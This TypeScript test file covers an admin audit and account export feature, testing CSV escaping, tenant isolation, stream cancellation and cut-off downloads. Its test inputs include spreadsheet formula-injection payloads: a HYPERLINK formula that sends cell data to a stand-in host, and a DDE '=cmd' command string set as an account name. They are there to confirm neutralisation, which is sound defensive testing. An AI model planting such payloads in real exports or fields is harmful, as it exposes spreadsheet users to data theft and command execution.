import type { AuditEvent, AuditPage } from '@sallyport/protocol';
import { describe, expect, it } from 'vitest';
import { recordEvent } from '../../server/src/audit/audit-store.ts';
import { csvRow } from '../../server/src/exports/csv.ts';
import { UnavailableError } from '../../server/src/ports/store-errors.ts';
import { signedInAdmins } from '../support/admins.ts';
import { countCalls } from '../support/count-calls.ts';
import { testApp, type TestApp } from '../support/test-app.ts';
import type { TestBrowser } from '../support/test-browser.ts';

/** The cells of a table (RFC 4180), row by row. */
function cellsOf(table: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain = '', end] of table.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    if (plain === '' && quoted === undefined && end === '') continue;
    rows.at(-1)!.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}

/** The rows of a table, by the names of its columns. */
function rowsOf(table: string): Record<string, string>[] {
  const [head = [], ...rows] = cellsOf(table.replace(/^\uFEFF/, ''));
  return rows.map((cells) => Object.fromEntries(cells.map((cell, index) => [head[index], cell])));
}

const textOf = async (browser: TestBrowser, path: string): Promise<string> =>
  (await browser.request('GET', path)).text();

/** Has so many events recorded for a tenant, each with its number. */
async function recordMany(app: TestApp, count: number): Promise<void> {
  const kind = 'locked';
  for (let nth = 0; nth < count; nth++) {
    await recordEvent(app.ports, { kind, tenant: 'acme', account: app.ben.id, details: { count: nth } }, 86_400);
    if (nth % 1000 === 999) app.wait(0.001); // more within a ms would be in no order
  }
}

/** Asks as a browser does that takes the answer bit by bit. */
async function openStream(app: TestApp, browser: TestBrowser, path: string) {
  const cookie = [...browser.cookies].map(([name, value]) => `${name}=${value}`).join('; ');
  const { origin } = app.ports.site.url;
  const response = await app.app.request(`${origin}/auth${path}`, { headers: { cookie } });
  return response.body!.getReader();
}

describe('a cell of a table', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+49151', "'+49151"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    ['\n=1', "'\n'=1"],
    ['＝1+1', "'＝1+1"],
    ['=HYPERLINK("https://evil.test?"&A1,"Click")', '\'=HYPERLINK("https://evil.test?"&A1,"Click")'],
    ['Anna "Ann" O’Hara, Esq.', 'Anna "Ann" O’Hara, Esq.'],
    ['two\r\nlines', 'two\r\nlines'],
    ['a; b', 'a; b'],
    ['a;=1+1;b', "a;'=1+1;b"],
    ['a, =1+1', "a, '=1+1"],
    ['a;" =1+1', 'a;" \'=1+1'],
    ['two\n@SUM(A1)', "two\n'@SUM(A1)"],
    ['a-b', 'a-b'],
    ['', ''],
  ])('%j is never run by a spreadsheet, and is read as %j', (text, read) => {
    const row = csvRow(['x', text, 1]);
    expect(cellsOf(row)).toEqual([['x', read, '1']]);
    expect(row).not.toMatch(/(^|[,;\r\n])["\s]*[=+\-@＝]/);
  });
});

describe('the audit as a file', () => {
  it('has all that matches, 10,000 and more, as a table and as lines', async () => {
    const app = await testApp();
    const { olga } = await signedInAdmins(app, 'olga');
    await recordMany(app, 10_050);
    const rows = rowsOf(await textOf(olga, '/admin/audit.csv?kinds=locked'));
    expect(rows.map(({ count }) => Number(count))).toEqual(Array.from({ length: 10_050 }, (_, nth) => 10_049 - nth));
    const lines = (await textOf(olga, '/admin/audit.ndjson?kinds=sign-in')).trim().split('\n');
    const listed = (await (await olga.request('GET', '/admin/audit?kinds=sign-in')).json()) as AuditPage;
    let { events, next } = listed;
    while (next) {
      const page = (await (await olga.request('GET', `/admin/audit?kinds=sign-in&cursor=${next}`)).json()) as AuditPage;
      ({ next } = page);
      events = [...events, ...page.events];
    }
    expect(lines.map((line) => JSON.parse(line) as AuditEvent)).toEqual(events);
  }, 30_000);

  it('names whom it speaks of, says what browsers save it under, and is kept by no cache', async () => {
    const app = await testApp();
    const { olga, sam } = await signedInAdmins(app, 'olga', 'sam');
    await olga.request('PATCH', `/admin/accounts/${app.ben.id}`, { name: '=cmd|"/c calc"!A1' });
    await olga.request('DELETE', `/admin/accounts/${app.ben.id}/sessions`);
    const response = await olga.request('GET', '/admin/audit.csv');
    expect(Object.fromEntries(response.headers)).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="audit-acme-2026-01-15.csv"',
      'cache-control': 'no-store',
    });
    const table = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
    expect(table.startsWith('\uFEFFid,at,kind,tenant,account,accountName,')).toBe(true);
    expect(rowsOf(table).find(({ kind }) => kind === 'sessions-ended')).toMatchObject({
      account: app.ben.id,
      accountName: '\'=cmd|"/c calc"!A1',
      actorName: 'olga@acme.test',
    });
    const lines = await sam.request('GET', '/admin/audit.ndjson?tenant=acme');
    expect(lines.headers.get('content-disposition')).toBe('attachment; filename="audit-acme-2026-01-15.ndjson"');
  });

  it('R-69 is of the admin’s own tenant, and nothing of another’s', async () => {
    const app = await testApp();
    const { otto } = await signedInAdmins(app, 'otto');
    await recordMany(app, 3);
    expect((await textOf(otto, '/admin/audit.csv')).includes(app.ben.id)).toBe(false);
    expect((await otto.request('GET', '/admin/audit.csv?tenant=acme')).status).toBe(404);
    expect((await otto.request('GET', '/admin/audit.ndjson?limit=5')).status).toBe(400);
  });

  it('A-35 is read no further once nobody takes it any more', async () => {
    const app = await testApp();
    const { olga } = await signedInAdmins(app, 'olga');
    await recordMany(app, 1000);
    const reader = await openStream(app, olga, '/admin/audit.csv?kinds=locked');
    await reader.read();
    const calls = countCalls(app.ports);
    await new Promise((resolve) => setTimeout(resolve, 20));
    await reader.read();
    await reader.cancel();
    await new Promise((resolve) => setTimeout(resolve, 20));
    expect(calls.stop()['list audit']).toBeLessThanOrEqual(2); // of ten: the one that was taken
  });

  it('A-27 is cut off, never short, where the rest can’t be read', async () => {
    const app = await testApp();
    const { olga } = await signedInAdmins(app, 'olga');
    await recordMany(app, 300);
    const reader = await openStream(app, olga, '/admin/audit.ndjson');
    await reader.read();
    app.ports.store.list = () => Promise.reject(new UnavailableError('no'));
    await expect(reader.read()).rejects.toThrow('A download was cut off.');
    expect(app.lines.some((line) => line.includes('A download was cut off.'))).toBe(true);
    expect((await olga.request('GET', '/admin/audit.csv')).status).toBe(503);
  });
});

describe('R-69 a file is cut off for who may read it no more, since their', () => {
  it.each<[string, string, object | undefined]>([
    ['session ended', '/admin/audit.ndjson', undefined],
    ['role was taken', '/admin/audit.csv', { role: 'member' }],
    ['account was suspended', '/admin/accounts.csv', { state: 'suspended' }],
  ])('%s: %s', async (_, path, taken) => {
    const app = await testApp();
    const { ada, sam } = await signedInAdmins(app, 'ada', 'sam');
    const { id } = (await ada.session())!.account;
    await recordMany(app, 250);
    for (let nth = 0; nth < 250; nth++) await app.addAccount({ email: `p${nth}@acme.test` });
    const reader = await openStream(app, ada, path);
    await reader.read();
    expect((await reader.read()).done).toBe(false);
    if (taken) expect((await sam.request('PATCH', `/admin/accounts/${id}`, taken)).status).toBe(200);
    else await ada.signOut();
    await expect(reader.read()).rejects.toThrow('A download was cut off.');
  });
});

describe('the accounts as a file', () => {
  it('are all that match, by pages, as the list has them', async () => {
    const app = await testApp();
    const { olga } = await signedInAdmins(app, 'olga');
    for (let nth = 0; nth < 230; nth++)
      await app.addAccount({ email: `p${nth}@acme.test`, tenant: 'acme', role: 'member', owner: false });
    const rows = rowsOf(await textOf(olga, '/admin/accounts.csv'));
    expect(new Set(rows.map(({ id }) => id)).size).toBe(rows.length);
    expect(rows.filter(({ email }) => /^p\d+@/.test(email!))).toHaveLength(230);
    expect(rows.find(({ email }) => email === 'anna@acme.test')).toMatchObject({
      tenant: 'acme',
      role: 'member',
      state: 'active',
      factors: 'totp',
    });
    const found = rowsOf(await textOf(olga, '/admin/accounts.csv?mfa=true'));
    expect(found.map(({ email }) => email)).toEqual(['anna@acme.test']);
    const response = await olga.request('GET', '/admin/accounts.csv?search=nobody');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="accounts-acme-2026-01-15.csv"');
    expect(rowsOf(await response.text())).toEqual([]);
  });

  it('R-69 are those whom the admin reaches: a system admin’s are everybody', async () => {
    const app = await testApp();
    const { otto, sam } = await signedInAdmins(app, 'otto', 'sam');
    const tenants = async (browser: TestBrowser, query = '') =>
      new Set(rowsOf(await textOf(browser, `/admin/accounts.csv${query}`)).map(({ tenant }) => tenant));
    expect(await tenants(otto)).toEqual(new Set(['other']));
    expect((await tenants(sam)).size).toBeGreaterThan(2);
    expect(await tenants(sam, '?tenant=acme')).toEqual(new Set(['acme']));
    expect((await otto.request('GET', '/admin/accounts.csv?tenant=acme')).status).toBe(404);
  });
});
